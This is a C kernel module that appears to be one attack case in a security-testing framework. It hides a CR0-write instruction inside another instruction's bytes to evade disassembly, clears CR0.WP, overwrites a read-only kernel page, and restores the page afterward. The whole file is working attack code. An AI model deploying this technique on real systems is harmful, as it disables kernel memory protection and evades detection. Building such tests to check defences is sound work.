/* SPDX-License-Identifier: MIT OR GPL-2.0-only */
/*
 * Clears CR0.WP with an instruction that no disassembler shows: it is the last four bytes of another one.
 * The page that is overwritten then is read-only by the kernel's page tables.
 */
#include "attack.h"
#include "attack_tables.h"

#include <asm/processor-flags.h>

#define BEFORE 0x5ec90d0055667788ul
#define AFTER 0x0badc0de11223344ul

/* b8 0f 22 c0 c3: mov $0xc3c0220f, %eax; from its second byte: mov %rax, %cr0; ret */
void secpod_carrier(void);
asm(".pushsection .text\n"
    "secpod_carrier:\n\t"
    "mov $0xc3c0220f, %eax\n\t"
    "ret\n"
    ".popsection");

static const unsigned long target __aligned(PAGE_SIZE) = BEFORE;

static void hidden_write_cr0(unsigned long value)
{
	asm volatile("call *%1" : "+a"(value) : "r"((u8 *)secpod_carrier + 1) : "memory", "cc");
}

static void overwrite(unsigned long value)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	cr0 = attack_read_cr0();
	hidden_write_cr0(cr0 & ~X86_CR0_WP);
	WRITE_ONCE(*(unsigned long *)&target, value);
	hidden_write_cr0(cr0);
	local_irq_restore(flags);
}

static int attempt(void)
{
	if (!attack_read_only(&target))
		return -EINVAL;
	overwrite(AFTER);
	return 0;
}

static bool effect(void)
{
	unsigned long value = READ_ONCE(*(volatile const unsigned long *)&target);

	attack_detail("read-only word 0x%lx", value);
	return value != BEFORE;
}

static void undo(void)
{
	overwrite(BEFORE);
}

static const struct attack jump_into = {"jump_into", "cr0", NULL, attempt, effect, undo};
ATTACK_MODULE(jump_into);
